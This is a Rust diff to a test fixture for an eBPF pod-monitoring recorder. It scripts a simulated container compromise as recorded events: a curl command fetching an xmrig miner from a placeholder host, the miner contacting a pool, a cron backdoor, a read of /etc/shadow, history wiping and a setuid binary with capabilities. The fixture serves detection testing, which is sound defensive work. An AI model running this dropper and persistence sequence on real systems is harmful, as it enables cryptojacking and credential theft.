@@ -45,9 +45,9 @@ use std::path::Path;
 use std::sync::Arc;
 
 use podtrail_recorder::flows::{FlowDelta, FlowKey, FlowVal};
-use podtrail_recorder::rows::{CapRow, ConnRow, DnsRow, ExecRow, ExitRow, FlowRow, ListenRow, PodIdentity, PrivRow, RowSet};
+use podtrail_recorder::rows::{CapRow, ConnRow, DnsRow, ExecRow, ExitRow, FileRow, FlowRow, ListenRow, PodIdentity, PrivRow, RowSet};
 use podtrail_recorder::dns::DnsRaw;
-use podtrail_recorder::decode::{ConnRaw, ExecRaw, ExitRaw, ListenRaw, PrivRaw};
+use podtrail_recorder::decode::{ConnRaw, ExecRaw, ExitRaw, FileRaw, ListenRaw, PrivRaw};
 use podtrail_recorder::privilege::CapDelta;
 use podtrail_recorder::segments::{ContainerRecord, IpOwnerRecord, LossRecord, PodRecord};
 use podtrail_recorder::{SegmentStore, StoreConfig};
@@ -272,6 +272,42 @@ impl Builder {
     }
 }
 
+/// The kernel dev_t of the fixture's container filesystem (an overlay, 0:49).
+const OVERLAY_DEV: u32 = 49;
+
+impl Builder {
+    /// A `file` row by `p`: `syscall` as listed in PT_FILE_SYSCALLS, its
+    /// arguments, what it matched (`why`, prefix and name indexes of the
+    /// default lists) and, when the kernel had it, the file's inode.
+    #[expect(clippy::too_many_arguments, reason = "a fixture builder: each argument is one field of the event it writes")]
+    fn file(&mut self, t: i64, pod: &Pod, p: &Proc, syscall: &str, op: &'static str, path: &str, path2: Option<&str>, args: [u64; 6], open_flags: u64, why: (u32, u16, u16), inode: Option<u64>) {
+        let created = op == "open" && open_flags & 0o100 != 0;
+        let raw = FileRaw {
+            op,
+            syscall: podtrail_ebpf::FILE_SYSCALLS.iter().find(|s| s.name == syscall).expect("a traced file syscall"),
+            pid: p.pid,
+            tid: p.pid,
+            uid: 0,
+            euid: 0,
+            result: if op == "open" || op == "read" { 3 } else { 0 },
+            time_boot_ns: 0,
+            cgroup_id: pod.cgroup,
+            comm: self.b.exec.rows.iter().rev().find(|e| e.raw.pid == p.pid).map(|e| e.raw.comm.clone()).unwrap_or_default(),
+            path: path.into(),
+            path2: path2.map(str::to_string),
+            args,
+            open_flags,
+            inode: inode.map(|i| (OVERLAY_DEV, i)),
+            mnt_ns: 4026532203,
+            why: why.0,
+            watch: why.1,
+            name_watch: why.2,
+            flags: if created { podtrail_ebpf::FILE_CREATED } else { 0 } | if inode.is_some() { podtrail_ebpf::FILE_HAS_INODE } else { 0 },
+        };
+        self.b.files.push(FileRow { time: t, raw, exec_id: Some(p.exec_id), identity: ident(pod) });
+    }
+}
+
 /// Write the incident history into a new data dir at `dir`.
 pub fn write(dir: &Path) -> anyhow::Result<()> {
     let (mut store, _) = SegmentStore::open(StoreConfig::new(dir, NODE))?;
@@ -300,7 +336,24 @@ pub fn write(dir: &Path) -> anyhow::Result<()> {
     w.exit(a.to.expect("A is deleted"), a.from, Some(a), &api, 0);
     // Pod C gets 10.244.1.7.
     let csh = w.exec(c.from, Some(c), 4000, None, 0, &["/bin/sh"]);
+    // The miner is downloaded by curl, made executable, and run: the dropper.
+    let dl = w.exec(T0 + 39 * M, Some(c), 4050, Some(&csh), 0, &["/usr/bin/curl", "-so", "/tmp/xmrig", "http://203.0.113.9/x"]);
+    w.conn(T0 + 39 * M + S, 2 * S, "connect", c, Some(&dl), 7, ("10.244.1.7", 41900), ("203.0.113.9", 80), None, (150, 2_000_000));
+    use podtrail_ebpf::{FILE_WHY_EXECUTED, FILE_WHY_EXEC_BIT, FILE_WHY_NAME, FILE_WHY_READ, FILE_WHY_SECURITY_XATTR, FILE_WHY_SETID, FILE_WHY_WATCHED};
+    w.file(T0 + 39 * M + 2 * S, c, &dl, "openat", "open", "/tmp/xmrig", None, [u64::MAX - 99, 0, 0o1101, 0o666, 0, 0], 0o1101, (FILE_WHY_EXECUTED, 0, 0), Some(77001));
+    w.file(T0 + 39 * M + 20 * S, c, &csh, "fchmodat", "chmod", "/tmp/xmrig", None, [u64::MAX - 99, 0, 0o755, 0, 0, 0], 0, (FILE_WHY_EXEC_BIT, 0, 0), None);
     let miner = w.exec(T0 + 40 * M, Some(c), 4100, Some(&csh), 0, &["/tmp/xmrig", "-o", "198.51.100.7:4444"]);
+    if let Some(e) = w.b.exec.rows.last_mut() {
+        e.raw.file_id = (OVERLAY_DEV, 77001);
+        e.sha256 = Some("5f2b7e1c9d3a4b6f8e0d2c4a6b8f0e1d3c5b7a9f1e3d5c7b9a1f3e5d7c9b1a3f".into());
+    }
+    // Persistence, credential access, covering tracks, a setuid copy with a capability.
+    w.file(T0 + 47 * M, c, &csh, "openat", "open", "/etc/cron.d/backdoor", None, [u64::MAX - 99, 0, 0o1101, 0o644, 0, 0], 0o1101, (FILE_WHY_WATCHED, 0, 0), Some(77010));
+    w.file(T0 + 47 * M + S, c, &csh, "openat", "open", "/root/.bashrc", None, [u64::MAX - 99, 0, 0o2101, 0o644, 0, 0], 0o2101, (FILE_WHY_WATCHED | FILE_WHY_NAME, 1, 0), Some(77011));
+    w.file(T0 + 47 * M + 2 * S, c, &csh, "openat", "read", "/etc/shadow", None, [u64::MAX - 99, 0, 0, 0, 0, 0], 0, (FILE_WHY_READ, 0, 0), Some(77012));
+    w.file(T0 + 47 * M + 3 * S, c, &csh, "openat", "open", "/root/.bash_history", None, [u64::MAX - 99, 0, 0o1001, 0, 0, 0], 0o1001, (FILE_WHY_WATCHED | FILE_WHY_NAME, 1, 9), Some(77013));
+    w.file(T0 + 47 * M + 4 * S, c, &csh, "fchmodat", "chmod", "/tmp/su2", None, [u64::MAX - 99, 0, 0o4755, 0, 0, 0], 0, (FILE_WHY_EXEC_BIT | FILE_WHY_SETID, 0, 0), None);
+    w.file(T0 + 47 * M + 5 * S, c, &csh, "setxattr", "setxattr", "/tmp/su2", Some("security.capability"), [0, 0, 0, 20, 0, 0], 0, (FILE_WHY_SECURITY_XATTR, 0, 0), None);
     w.conn(T0 + 41 * M, 60 * S, "connect", c, Some(&miner), 4, ("10.244.1.7", 42000), ("198.51.100.7", 4444), None, (9000, 12000));
     w.conn(T0 + 42 * M, S, "connect", c, Some(&csh), 5, ("10.244.1.7", 42100), ("10.244.1.8", 8080), None, (10, 20));
     w.conn(T0 + 42 * M + 50_000, S, "accept", b, Some(&ledger), 6, ("10.244.1.8", 8080), ("10.244.1.7", 42100), None, (20, 10));
